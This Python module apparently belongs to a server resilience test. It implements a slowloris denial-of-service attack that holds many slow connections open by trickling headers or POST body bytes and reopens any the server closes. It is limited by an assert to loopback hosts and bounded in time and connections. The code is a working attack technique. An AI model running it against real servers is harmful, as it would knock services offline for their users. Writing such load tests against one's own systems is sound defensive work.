"""A slowloris attack on a server of this machine: many connections that send their request slowly.

``mode`` ``"headers"`` sends a request line and then one header line a second, never the
blank line; ``"body"`` sends complete headers of a POST with ``Content-Length`` and then one
body byte a second.  A connection the server closes is opened again, so the pressure stays
for the whole attack.  Loopback only; bounded in connections and time.
"""

from __future__ import annotations

import selectors
import socket
import threading
import time
from dataclasses import dataclass, field

STEP_S = 1.0


@dataclass
class AttackReport:
    opened_total: int = 0
    closed_by_server_total: int = 0
    modes: dict = field(default_factory=dict)


def _open(host: str, port: int, mode: str) -> socket.socket:
    sock = socket.create_connection((host, port), timeout=5)
    if mode == "headers":
        sock.sendall(b"GET /api/v1/live/kpis HTTP/1.1\r\nHost: 127.0.0.1\r\n")
    else:
        sock.sendall(
            b"POST /api/v1/project HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
            b"Content-Length: 100000\r\n\r\n{"
        )
    sock.setblocking(False)
    return sock


def attack(host: str, port: int, connections: int, seconds: float, stop: threading.Event) -> AttackReport:
    """Hold ``connections`` slow connections (half of each mode) for ``seconds`` (or until ``stop``)."""
    assert host in ("127.0.0.1", "::1", "localhost"), "loopback only"
    report = AttackReport()
    selector = selectors.DefaultSelector()
    socks: dict[socket.socket, str] = {}
    modes = ["headers" if i % 2 == 0 else "body" for i in range(connections)]

    def add(mode: str) -> None:
        try:
            sock = _open(host, port, mode)
        except OSError:
            return
        socks[sock] = mode
        selector.register(sock, selectors.EVENT_READ)
        report.opened_total += 1

    def drop(sock: socket.socket) -> None:
        selector.unregister(sock)
        mode = socks.pop(sock)
        sock.close()
        report.closed_by_server_total += 1
        if not stop.is_set():
            add(mode)

    for mode in modes:
        add(mode)
    deadline = time.monotonic() + seconds
    next_step = time.monotonic() + STEP_S
    while time.monotonic() < deadline and not stop.is_set():
        for key, _ in selector.select(timeout=0.1):
            try:
                data = key.fileobj.recv(4096)
            except OSError:
                data = b""
            if not data:
                drop(key.fileobj)
        if time.monotonic() >= next_step:
            next_step += STEP_S
            for sock, mode in list(socks.items()):
                try:
                    sock.send(b"X-Slow: 1\r\n" if mode == "headers" else b" ")
                except OSError:
                    drop(sock)
    for sock in list(socks):
        selector.unregister(sock)
        sock.close()
    selector.close()
    return report
